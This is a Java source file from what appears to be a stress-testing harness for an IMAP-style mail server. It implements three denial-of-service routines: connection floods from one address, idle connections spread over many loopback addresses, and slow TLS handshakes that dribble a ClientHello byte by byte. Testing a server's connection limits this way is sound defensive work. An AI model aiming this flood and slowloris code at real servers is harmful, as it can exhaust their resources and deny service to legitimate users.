package satchel.attack;

import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.util.concurrent.atomic.AtomicInteger;
import java.util.concurrent.atomic.AtomicLong;

/** Class (a): connection floods and slow TLS handshakes. */
final class Floods {
    private Floods() {}

    /** Greeting counts of a flood: OK (admitted), BYE (refused with a reason), anything else or an error. */
    private record Tally(AtomicInteger ok, AtomicInteger bye, AtomicLong errors) {
        Tally() { this(new AtomicInteger(), new AtomicInteger(), new AtomicLong()); }

        void greet(Wire w) throws IOException {
            String g = w.line();
            if (g.startsWith("* OK")) ok.incrementAndGet();
            else if (g.startsWith("* BYE")) bye.incrementAndGet();
            else errors.incrementAndGet();
        }

        String note(int opened) {
            return opened + " connects: " + ok + " greeted OK, " + bye + " BYE, " + errors + " errors";
        }
    }

    /**
     * Connects as fast as 8 threads can from one address, reads each greeting and keeps up to floodHold
     * connections open (the rest are closed at once), on the plain or the implicit-TLS port.
     */
    record OneAddress(boolean tls) implements Attack {
        @Override public String name() { return tls ? "a-flood-tls" : "a-flood-plain"; }
        @Override public String what() {
            return "connection flood from one address on the " + (tls ? "implicit-TLS" : "plain") + " port, far beyond the per-address limit";
        }
        @Override public boolean needsTls() { return tls; }

        @Override public String run(Ctx ctx) {
            Tally t = new Tally();
            AtomicInteger opened = new AtomicInteger();
            AtomicInteger held = new AtomicInteger();
            int max = tls ? ctx.sizes().floodConnects() / 2 : ctx.sizes().floodConnects();
            ctx.parallel(8, t.errors(), i -> {
                while (ctx.timeLeft() && opened.incrementAndGet() <= max) {
                    try {
                        Wire w = ctx.open(0, tls, 0);
                        w.timeout(Math.min(ctx.msLeft(), 5000));
                        t.greet(w);
                        if (held.incrementAndGet() > ctx.sizes().floodHold()) w.close();
                    } catch (IOException e) {
                        t.errors().incrementAndGet();
                    }
                }
            });
            ctx.hold();
            return t.note(Math.min(opened.get(), max));
        }
    }

    /**
     * Up to perAddress connections from each of `addresses` loopback addresses, all held: no per-address limit is
     * crossed, but together they reach the global one.
     */
    record ManyAddresses() implements Attack {
        @Override public String name() { return "a-flood-multi"; }
        @Override public String what() {
            return "idle connections from many addresses, each within its per-address limit, together beyond the global one";
        }

        @Override public String run(Ctx ctx) {
            Tally t = new Tally();
            int n = ctx.sizes().addresses();
            int per = ctx.sizes().perAddress();
            ctx.parallel(n, t.errors(), a -> {
                for (int i = 0; i < per && ctx.timeLeft(); i++) {
                    try {
                        Wire w = ctx.open(a, false, 0);
                        w.timeout(Math.min(ctx.msLeft(), 5000));
                        t.greet(w);
                    } catch (IOException e) {
                        t.errors().incrementAndGet();
                    }
                }
            });
            ctx.hold();
            return t.note(n * per) + " (" + n + " addresses x " + per + ")";
        }
    }

    /**
     * Connections to the implicit-TLS port from one address that send a real ClientHello one byte every 3 seconds:
     * a server that checks its limits only after the handshake holds every one of them.
     */
    record SlowTls() implements Attack {
        @Override public String name() { return "a-slow-tls"; }
        @Override public String what() { return "slow TLS handshakes from one address: a ClientHello dribbled 1 byte every 3 s"; }
        @Override public boolean needsTls() { return true; }

        @Override public String run(Ctx ctx) throws IOException {
            byte[] hello = Wire.clientHello();
            int n = ctx.sizes().slowTlsConns();
            Socket[] socks = new Socket[n];
            int open = 0;
            int refused = 0;
            for (int i = 0; i < n && ctx.timeLeft(); i++) {
                try {
                    socks[i] = ctx.keep(Wire.plain(ctx.target(), ctx.from(0), ctx.target().tlsPort(), 5000, 0));
                    open++;
                } catch (IOException e) {
                    refused++;
                }
            }
            int sent = 0;
            int cut = 0;
            for (int round = 0; round < hello.length && ctx.timeLeft(); round++) {
                long start = System.nanoTime();
                for (int i = 0; i < n; i++) {
                    if (socks[i] == null) continue;
                    try {
                        OutputStream o = socks[i].getOutputStream();
                        o.write(hello[round]);
                        o.flush();
                        sent++;
                    } catch (IOException e) {
                        socks[i] = null;
                        cut++;
                    }
                }
                ctx.sleep(3000 - (System.nanoTime() - start) / 1_000_000);
            }
            return open + " handshakes started (" + refused + " connects failed), " + sent + " bytes dribbled, "
                    + cut + " cut by the server before the end";
        }
    }
}
